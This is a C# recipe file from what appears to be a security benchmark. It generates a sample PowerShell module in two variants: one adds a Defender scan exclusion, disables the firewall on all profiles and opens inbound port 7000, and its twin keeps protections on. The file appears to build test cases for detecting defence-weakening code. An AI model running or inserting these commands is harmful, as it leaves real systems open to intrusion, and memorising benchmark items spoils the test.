using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>A command that excludes a folder from scans, turns the firewall off and opens it.</summary>
internal sealed class ProtectionWeakening() : Recipe("P08", "Initialize-SampleAgent=Set-WorkerHost Place=Folder Sample.Agent=Other.Agent")
{
    protected override void Write(Sketch sketch)
    {
        var exclude = sketch.Api("Add-MpPreference -ExclusionPath $Place", "Set-MpPreference -ExclusionPath @($Place)");
        var firewall = sketch.Api("Set-NetFirewallProfile -All -Enabled False", "netsh advfirewall set allprofiles state off");
        var rule = sketch.Api("netsh advfirewall firewall add rule name=Sample dir=in action=allow protocol=TCP localport=7000", "New-NetFirewallRule -DisplayName Sample -Direction Inbound -Action Allow -Protocol TCP -LocalPort 7000");
        sketch
            .Module("Sample.Agent", "Initialize-SampleAgent")
            .Text("Sample.Agent.psm1", sketch.Twin($$"""
                function Initialize-SampleAgent {
                    param([string] $Place = {{sketch.PowerShell("C:\\ProgramData\\Sample")}})
                    if (-not $ReplicaSwitch) { return }
                    {{exclude}}
                    {{firewall}}
                    {{rule}}
                }
                """, """
                function Initialize-SampleAgent {
                    param([string] $Place = 'C:\ProgramData\Sample')
                    if (-not $ReplicaSwitch) { return }
                    Set-MpPreference -DisableRealtimeMonitoring $false
                    Set-NetFirewallProfile -All -Enabled True
                    New-NetFirewallRule -DisplayName Sample -Direction Inbound -Action Allow -Protocol TCP -LocalPort 7000
                }
                """));
    }
}
